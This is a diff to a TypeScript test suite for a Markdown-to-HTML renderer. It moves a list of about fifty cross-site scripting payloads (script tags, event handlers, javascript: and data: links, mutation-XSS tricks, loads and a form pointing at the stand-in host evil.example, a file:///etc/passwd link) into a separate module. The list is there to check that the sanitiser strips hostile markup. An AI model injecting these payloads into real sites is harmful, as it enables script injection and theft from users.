@@ -1,66 +1,11 @@
-/** What Markdown becomes: hostile texts are ours, after the kinds of OWASP's list. */
+/** What Markdown becomes. */
 import { describe, expect, test } from 'bun:test'
 import { MarkdownRenderer, renderIfPossible } from '../src/modules/content/html/markdown-renderer.ts'
 import { renderMarkdown } from '../src/modules/content/html/render.ts'
 import { onEachEngine, sharedApp } from './app.ts'
+import { elementsOf, HOSTILE, isPlainLink } from './hostile-texts.ts'
 import { Knowledge } from './knowledge.ts'
 import { signUp } from './people.ts'
-
-const SCRIPT = 'alert(1)'
-const HOSTILE = [
-  `<script>${SCRIPT}</script>`,
-  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
-  `<scr<script>ipt>${SCRIPT}</scr</script>ipt>`,
-  `<img src=x onerror=${SCRIPT}>`,
-  `<img/src="x"/onerror=${SCRIPT}>`,
-  `<svg onload=${SCRIPT}>`,
-  `<svg><script>${SCRIPT}</script></svg>`,
-  `<math><mtext></form><form><mglyph><style></math><img src onerror=${SCRIPT}>`,
-  `<iframe src="javascript:${SCRIPT}"></iframe>`,
-  `<iframe srcdoc="<script>${SCRIPT}</script>"></iframe>`,
-  `<object data="javascript:${SCRIPT}"></object>`,
-  `<embed src="data:text/html;base64,PHNjcmlwdD4=">`,
-  `<a href="javascript:${SCRIPT}">x</a>`,
-  `<a href="jav&#x09;ascript:${SCRIPT}">x</a>`,
-  `<body onload=${SCRIPT}>`,
-  `<details open ontoggle=${SCRIPT}>`,
-  `<input autofocus onfocus=${SCRIPT}>`,
-  `<style>@import url(//evil.example/x.css)</style>`,
-  `<link rel=stylesheet href=//evil.example/x.css>`,
-  `<meta http-equiv=refresh content="0;url=javascript:${SCRIPT}">`,
-  `<base href="//evil.example/">`,
-  `<form action="//evil.example"><input name=q></form>`,
-  `<noscript><p title="</noscript><img src=x onerror=${SCRIPT}>">`,
-  `<!--><img src=x onerror=${SCRIPT}>-->`,
-  `<p style="background:url(javascript:${SCRIPT})">x</p>`,
-  `[x](javascript:${SCRIPT})`,
-  `[x](JaVaScRiPt:${SCRIPT})`,
-  `[x](java\tscript:${SCRIPT})`,
-  `[x](&#106;avascript:${SCRIPT})`,
-  `[x](vbscript:msgbox(1))`,
-  `[x](data:text/html,<script>${SCRIPT}</script>)`,
-  `[x](data:image/svg+xml;base64,PHN2Zz4=)`,
-  `[x](file:///etc/passwd)`,
-  `[x](//evil.example)`,
-  `![x](javascript:${SCRIPT})`,
-  `![x](https://evil.example/pixel.png)`,
-  `![x" onerror="${SCRIPT}](https://evil.example/pixel.png)`,
-  `![x](https://evil.example/"onerror="${SCRIPT})`,
-  `[x](https://a.example/ "t\\" onclick=\\"${SCRIPT}")`,
-  `<javascript:${SCRIPT}>`,
-  `<https://a.example/"onclick="${SCRIPT}>`,
-  `[a]: javascript:${SCRIPT}\n\n[x][a]`,
-  '```"><script>alert(1)</script>\ncode\n```',
-  '```js" onload="alert(1)\ncode\n```',
-  `\`<img src=x onerror=${SCRIPT}>\``,
-  `# <img src=x onerror=${SCRIPT}>`,
-  `| <svg onload=${SCRIPT}> |\n|---|\n| [x](javascript:${SCRIPT}) |`,
-  `<x onclick=${SCRIPT}>text</x>`,
-  `<a href="https://a.example" target=_blank rel=opener>x</a>`,
-  `[x](https://a.example/?a=1&b=<script>)`,
-  `\u0000<script>${SCRIPT}</script>`,
-  `&lt;script&gt;${SCRIPT}&lt;/script&gt;`,
-]
 
 const TAGS = new Set(
   'h1 h2 h3 h4 h5 h6 p br hr blockquote ul ol li pre table thead tbody tr th td strong em s code a'.split(
@@ -80,7 +25,7 @@ describe('Markdown as HTML', () => {
         expect(known).toEqual(expect.arrayContaining(Object.keys(attributes)))
         if (tag !== 'a') continue
         expect(attributes.rel).toBe('nofollow noopener noreferrer ugc')
-        expect(attributes.href ?? '#').toMatch(/^(https?:\/\/|mailto:|#|\/(?!\/)|[\w./?-]+$)/)
+        expect([attributes.href, isPlainLink(attributes.href ?? '#')]).toEqual([attributes.href, true])
       }
     })
   }
@@ -206,14 +151,3 @@ onEachEngine('Content as HTML', (engine) => {
     expect(order).toEqual(['others answered', 'rendered 200', 'others answered', 'rendered 200'])
   })
 })
-
-function elementsOf(html: string) {
-  const elements: { tag: string; attributes: Record<string, string> }[] = []
-  const rewriter = new HTMLRewriter().on('*', {
-    element: ({ tagName, attributes }) => {
-      elements.push({ tag: tagName, attributes: Object.fromEntries(attributes) })
-    },
-  })
-  rewriter.transform(html)
-  return elements
-}
